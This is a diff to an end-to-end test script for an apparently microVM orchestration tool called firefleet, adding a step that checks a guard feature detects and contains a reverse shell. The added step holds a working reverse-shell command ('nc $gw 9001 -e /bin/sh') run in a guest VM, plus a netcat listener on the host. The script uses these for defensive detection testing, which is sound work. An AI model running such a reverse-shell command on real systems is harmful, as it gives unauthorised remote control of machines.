@@ -4,7 +4,8 @@
 # restore a VM whose counter goes on, a second node joins and VMs are placed across the labelled
 # nodes, the counter VM migrates to the other node, run a VM on a disk image built from a
 # directory, deploy a function (a cold start from its snapshot template, warm calls, scale to
-# zero), stop and delete everything, tear down, exit 0.
+# zero), a reverse shell in a guest detected and contained by the guard, stop and delete
+# everything, tear down, exit 0.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$PWD/target}"
@@ -25,11 +26,12 @@ step() { printf '\n\033[1m==> %s\033[0m\n' "$*"; }
 step "firefleet up --data-dir $data --listen $listen"
 "$ff" up --data-dir "$data" --listen "$listen" --bridge "$bridge" --subnet "$subnet" \
   --node-name local --label cloud=local --label region=dev-1 \
-  --fn-tick-ms 500 --fn-bin-secs 1 --fn-keep-alive-secs 10 \
+  --fn-tick-ms 500 --fn-bin-secs 1 --fn-keep-alive-secs 10 --telemetry-interval-ms 1000 \
   2>"$data/up.log" &
 up=$!
 cleanup() {
   [ -n "${agent2:-}" ] && { kill "$agent2" 2>/dev/null || true; }
+  [ -n "${listener:-}" ] && { kill -- -"$listener" 2>/dev/null || true; }
   kill "$up" 2>/dev/null || true
   wait "$up" 2>/dev/null || true
   # Nothing of ours may outlive the job.
@@ -49,7 +51,7 @@ trap cleanup EXIT
 
 export FIREFLEET_SERVER="https://$listen" FIREFLEET_CA="$data/ca.pem" FIREFLEET_TOKEN="@$data/admin.token"
 for _ in $(seq 1 300); do
-  if [ -f "$data/admin.token" ] && "$ff" node ls --output json 2>/dev/null | grep -q '"readiness": "ready"'; then break; fi
+  if [ -f "$data/admin.token" ] && "$ff" node ls --output json 2>/dev/null | grep '"readiness": "ready"' >/dev/null; then break; fi
   if ! kill -0 "$up" 2>/dev/null; then cat "$data/up.log"; echo "firefleet up exited" >&2; exit 1; fi
   sleep 0.2
 done
@@ -79,7 +81,7 @@ step "firefleet vm run --name hello --wait"
 
 step "firefleet vm logs hello"
 for _ in $(seq 1 100); do
-  "$ff" vm logs hello | grep -q "firefleet-guest ready" && break
+  "$ff" vm logs hello | grep "firefleet-guest ready" >/dev/null && break
   sleep 0.2
 done
 "$ff" vm logs hello | tee "$data/hello.console"
@@ -148,12 +150,33 @@ sleep 1
 echo "idle: the instance goes once the keep-alive the autoscaler gave it passes (this job runs the"
 echo "autoscaler on a compressed clock: 1 s bins instead of 1 min)"
 for _ in $(seq 1 300); do
-  "$ff" fn get greet --output json | grep -q '"instances": \[\]' && break
+  "$ff" fn get greet --output json | grep '"instances": \[\]' >/dev/null && break
   sleep 0.5
 done
-"$ff" fn get greet --output json | grep -q '"instances": \[\]'
+"$ff" fn get greet --output json | grep '"instances": \[\]' >/dev/null
 "$ff" fn get greet
 "$ff" fn rm greet
+
+step "the guard: a reverse shell inside a guest is detected and contained (isolated, snapshotted, replaced)"
+gw="${subnet%.0/24}.1"
+# The attacker's end: a listener on the host (its own process group, to be killed as a whole).
+setsid sh -c 'sleep 600 | exec busybox nc -l -p 9001' >/dev/null 2>&1 </dev/null &
+listener=$!
+"$ff" vm run --name shell --node-selector cloud=local --wait
+"$ff" vm exec shell -- sh -c "(setsid nc $gw 9001 -e /bin/sh </dev/null >/dev/null 2>&1 &); true"
+echo "a shell in the guest now reads and writes a socket to $gw:9001"
+for _ in $(seq 1 900); do
+  "$ff" threat ls --vm shell --rule reverse-shell-stdio --output json | grep '"contained_ms": [0-9]' >/dev/null && break
+  sleep 0.2
+done
+"$ff" threat ls --vm shell --rule reverse-shell-stdio --output json | grep '"contained_ms": [0-9]' >/dev/null
+"$ff" threat ls --vm shell
+threat=$("$ff" threat ls --vm shell --rule reverse-shell-stdio --output json | sed -n 's/^    "id": "\([^"]*\)".*/\1/p' | head -n 1)
+"$ff" threat get "$threat"
+"$ff" vm ls
+kill -- -"$listener" 2>/dev/null || true
+"$ff" vm rm shell --wait
+"$ff" vm rm shell-r1 --wait
 
 step "a disk image built from a directory, the root of a VM (its own copy-on-write layer), plus a blank data disk"
 mkdir -p "$data/rootfs/bin" "$data/rootfs/proc" "$data/rootfs/sys" "$data/rootfs/dev" "$data/rootfs/tmp" "$data/rootfs/mnt"
